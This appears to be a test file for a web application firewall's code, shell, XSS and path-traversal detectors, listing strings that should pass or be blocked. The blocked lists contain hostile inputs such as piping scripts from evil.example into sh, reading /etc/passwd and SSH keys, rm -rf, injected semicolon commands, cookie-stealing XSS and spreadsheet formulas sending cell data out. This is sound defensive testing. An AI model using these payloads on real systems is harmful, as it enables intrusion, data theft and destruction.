// Code and commands that people show one another, and the same where they would run.
import { test } from 'node:test';
import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
import { detectPath } from '../../../src/guard/decide/waf/detect/path/path.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
import { blocks, passes } from './judged.ts';

test('a call with a sentence behind it runs nowhere, as no language reads two names in a row', () => {
  passes(detectCode, [
    'echo shell_exec("convert $in"); prints nothing',
    'os.system("ls") vs subprocess.run(["ls"])',
  ]);
  blocks(detectCode, [
    "system('id'); // shows who runs it",
    "system('id'); __halt_compiler(); rest of it",
    '${system(id)} and words behind it',
    "';system('id');echo 'words in a string",
  ]);
});

test('what follows a whole command counts less, unless it would be worth sending anyhow', () => {
  passes(detectShell, ['RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*']);
  blocks(detectShell, [
    'ping -c 3 8.8.8.8; cat /etc/passwd',
    'tar -czf a.tgz b; curl http://evil.example/x | sh',
    'x; rm -rf /var/lib/apt',
  ]);
});

test('commands that anybody keeps are shown where they follow a command, a prompt or an instruction, not where they follow a value', () => {
  passes(detectShell, [
    'head -n 5 access.log; cut -d" " -f1 access.log | sort -u',
    '~/app main ❯ git stash && git pull --rebase',
    'test: sh -c "cp .env.example .env && npm ci"',
    'curl -fsSL https://get.tool.example/install.sh | bash',
    'Get-Process | Where-Object {$_.Name -like "a*"} | Stop-Process',
  ]);
  blocks(detectShell, [
    '127.0.0.1; ls -la',
    'report.pdf && cat config.yml',
    'npm ci; cat ~/.ssh/id_rsa',
    'head -n 5 a.log; cat /etc//passwd',
    'git pull; wget http://evil.example/x; sh x',
    'git pull; rm -rf /srv/app',
    'ls a; touch /tmp/x',
    'cat a.log; tail -n 9 /e?c/p?sswd/x',
    'x; curl -fsSL https://get.tool.example/install.sh | bash',
    'curl https://get.tool.example/install.sh | sh',
    'ls -la',
    '\nls -la',
  ]);
});

test('what a page does of itself passes, and what somebody wants of its readers does not', () => {
  passes(detectXss, [
    "<script>console.log('loaded')</script>",
    '<script src="/static/main.js" defer></script>',
    '<iframe src="https://maps.example.com/embed" width="600" height="450"></iframe>',
    '<svg onload="init(evt)">',
    `<button onclick="alert('Saved!')">Save</button>`,
    "new Function('a', 'b', 'return a + b')(1, 2)",
  ]);
  blocks(detectXss, [
    '<script>console.log(document["coo"+"kie"])</script>',
    '"><script src="/uploads/x.js"></script>',
    '<iframe src="https://evil.example" width=9 onload=alert(1)></iframe>',
    `<button onclick="alert('Saved!');eval(name)">Save</button>`,
    '<img src=`x`onerror=alert(1)>',
    '<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>',
    "<script>console.log('x')</script>".repeat(80),
    "new Function('a', 'alert(a)')(1)",
  ]);
});

test('a program that asks for nothing an intruder wants is shown', () => {
  passes(detectCode, [
    "const { exec } = require('child_process'); exec('npm run build', (e, out) => console.log(out));",
    'import subprocess\nout = subprocess.run(["git", "status"]).stdout',
    'lambda e: __import__("math").sqrt(e)',
    'fmt.Println(os.Getenv("HOME"))',
  ]);
  blocks(detectCode, [
    "const x = require('child_process').execSync('id')",
    "import os; os.system('cat /etc/passwd')",
    'subprocess.run(["python", "-c", "print(1)"])',
    "exec('npm run x; id')",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  ]);
  passes(detectCode, ['=HYPERLINK("https://example.com","Open")']);
});

test('a path with a word behind it opens no file; a request line does', () => {
  passes(detectPath, [
    '/etc/passwd permissions default',
    'cat: /etc/shadow: Permission denied',
    'chmod 600 ~/.ssh/id_rsa; ssh-add',
    '203.0.113.9 - - [12/Mar/2025:10:11:13 +0000] "GET /../../etc/passwd HTTP/1.1" 400',
  ]);
  blocks(detectPath, ['/etc/passwd', '~/.ssh/id_rsa', 'GET /.env HTTP/1.1', '../../../etc/passwd as text']);
});
